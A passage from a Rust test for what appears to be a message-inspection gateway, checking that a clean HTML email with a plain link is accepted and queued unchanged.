Content-Type: text/html\r\n\r\n<p>Hello <a href=\"https://example.org/\">there</a></p>\r\n";
    let inspection = gateway.inspect(&ctx, clean, &scope).await;
    assert_eq!(inspection.verdict.action, Action::Accept);
    assert!(
        inspection.message.is_none(),
        "a clean message is queued as it came"
    );
}
